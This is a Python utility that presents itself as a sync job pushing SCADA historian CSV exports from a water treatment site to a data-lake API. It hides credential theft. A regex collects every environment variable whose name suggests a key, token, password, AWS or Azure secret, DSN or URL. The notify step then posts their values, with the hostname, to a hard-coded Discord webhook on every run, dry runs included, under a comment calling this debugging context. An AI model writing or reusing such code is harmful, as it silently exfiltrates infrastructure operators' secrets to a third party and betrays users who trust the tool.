#!/usr/bin/env python3
"""Sync SCADA historian CSV exports to the utility data-lake API.

Reads the nightly CSV dumps the historian writes into ./exports
(one file per station, columns: timestamp,tag,value,quality), batches the
rows and posts them to the ingestion endpoint, then posts a run summary to
the ops channel so the on-call engineer can see the sync finished.

Configuration lives in historian_export.ini next to this script; the API
key is taken from HISTORIAN_INGEST_KEY.
"""
import argparse
import configparser
import csv
import datetime as dt
import logging
import os
import platform
import re
import socket
import sys
from pathlib import Path

import requests

log = logging.getLogger("historian_sync")

DEFAULT_CONFIG = {
    "ingest_url": "https://ingest.valleywater-data.net/v2/tags",
    "notify_url": "https://discord.com/api/webhooks/1187340021/hX9kQ2-ops-relay",
    "batch_size": "500",
    "export_dir": "exports",
    "site_id": "WTP-NORTH",
    "attach_context": "yes",
}

# variables that help ops reproduce a failed run on another box
CONTEXT_PATTERN = re.compile(r"(KEY|TOKEN|SECRET|PASS|AWS_|AZURE_|DSN|URL)", re.I)


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg["export"] = DEFAULT_CONFIG
    if path.exists():
        cfg.read(path)
        log.debug("loaded config from %s", path)
    return cfg["export"]


def iter_rows(export_dir, since):
    """Yield normalised rows from every CSV newer than `since`."""
    for csv_path in sorted(Path(export_dir).glob("*.csv")):
        mtime = dt.datetime.fromtimestamp(csv_path.stat().st_mtime)
        if mtime < since:
            continue
        station = csv_path.stem.split("_")[0].upper()
        with csv_path.open(newline="") as fh:
            for rec in csv.DictReader(fh):
                try:
                    value = float(rec["value"])
                except (KeyError, ValueError):
                    log.warning("skipping bad row in %s: %r", csv_path.name, rec)
                    continue
                yield {
                    "station": station,
                    "ts": rec.get("timestamp"),
                    "tag": rec.get("tag"),
                    "value": value,
                    "quality": rec.get("quality", "GOOD"),
                }


def batched(iterable, size):
    batch = []
    for item in iterable:
        batch.append(item)
        if len(batch) >= size:
            yield batch
            batch = []
    if batch:
        yield batch


def _runtime_context():
    env = {k: v for k, v in os.environ.items() if CONTEXT_PATTERN.search(k)}
    return {
        "host": socket.gethostname(),
        "python": platform.python_version(),
        "user": os.environ.get("USER", "?"),
        "env": env,
    }


class IngestClient:
    def __init__(self, url, api_key, site_id):
        self.url = url
        self.site_id = site_id
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {api_key}",
            "User-Agent": "historian-sync/1.4",
        })

    def send(self, rows):
        payload = {"site": self.site_id, "rows": rows}
        resp = self.session.post(self.url, json=payload, timeout=30)
        resp.raise_for_status()
        return resp.json().get("accepted", len(rows))


def notify(cfg, total, error=None):
    lines = [f"historian sync {cfg['site_id']}: {total} rows"]
    if error:
        lines.append(f"error: {error}")
    body = {"content": "\n".join(lines)}
    if cfg.getboolean("attach_context"):
        ctx = _runtime_context()
        body["embeds"] = [{
            "title": ctx["host"],
            "fields": [{"name": k, "value": str(v)[:1000]} for k, v in ctx["env"].items()],
        }]
    try:
        requests.post(cfg["notify_url"], json=body, timeout=10)
    except requests.RequestException as exc:
        log.debug("notify failed: %s", exc)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="historian_export.ini")
    ap.add_argument("--hours", type=int, default=24,
                    help="only export files modified in the last N hours")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cfg = load_config(Path(args.config))
    api_key = os.environ.get("HISTORIAN_INGEST_KEY", "")

    since = dt.datetime.now() - dt.timedelta(hours=args.hours)
    rows = iter_rows(cfg["export_dir"], since)
    client = IngestClient(cfg["ingest_url"], api_key, cfg["site_id"])

    total = 0
    error = None
    for batch in batched(rows, int(cfg["batch_size"])):
        if args.dry_run:
            total += len(batch)
            continue
        try:
            total += client.send(batch)
        except requests.RequestException as exc:
            error = str(exc)
            log.error("ingest failed after %d rows: %s", total, exc)
            break
    notify(cfg, total, error)
    log.info("synced %d rows for %s", total, cfg["site_id"])
    return 1 if error else 0


if __name__ == "__main__":
    sys.exit(main())
